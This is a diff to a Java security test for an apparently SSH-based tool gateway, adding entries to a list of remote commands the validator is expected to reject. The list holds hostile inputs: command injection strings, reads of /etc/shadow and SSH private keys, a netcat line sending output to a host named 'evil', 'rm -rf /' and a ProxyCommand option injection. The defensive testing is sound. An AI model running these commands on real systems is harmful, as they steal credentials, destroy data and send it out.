@@ -2,6 +2,7 @@ package io.itmcp.gateway.tools;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.itmcp.api.v1alpha1.RemoteArguments;
 import io.itmcp.api.v1alpha1.ToolName;
 import io.itmcp.gateway.ssh.SshKeyDirectory;
 import io.itmcp.gateway.runtime.ProgressListener;
@@ -36,7 +37,8 @@ class HostileCallsTest {
       .hosts("db.example.com", "127.0.0.1", "10.0.0.0/24", "firewall.local:22")
       .dnsServers("192.0.2.53")
       .directories("/var/log", "/srv/data")
-      .remoteCommands("show interface", "uname -a", "cat /etc/hostname")
+      .remoteCommands("uname -a", "cat /etc/hostname")
+      .remoteCommandRule("show interface", RemoteArguments.ANY)
       .sshUsers(Map.of("db.example.com", "dbadmin"))
       .build();
 
@@ -145,7 +147,8 @@ class HostileCallsTest {
     }
     for (String cmd : List.of("uname -a; id", "uname -a && id", "uname $(id)", "cat /etc/shadow", "uname -a | nc evil 1",
         "rm -rf /", "uname\n-a", "show interface `id`", "show interfaces", "uname -a *", "uname ~root",
-        "cat /etc/hostname /etc/shadow", "cat /etc/hostname > /tmp/x", "uname -a\u0000", "UNAME -a", "uname  -a 'x'",
+        "cat /etc/hostname /etc/shadow", "cat /etc/hostname > /tmp/x", "cat /etc/hostname .ssh/id_ed25519",
+        "cat /etc/hostname id_ed25519", "uname -a -n", "show interface -x", "show interface status --all", "uname -a\u0000", "UNAME -a", "uname  -a 'x'",
         "show interface \"x\"", "uname -a #", "-oProxyCommand=id", "sh -c id", "x".repeat(5000))) {
       out.add(with(ToolName.SSH, "command=" + cmd, "command", cmd));
     }
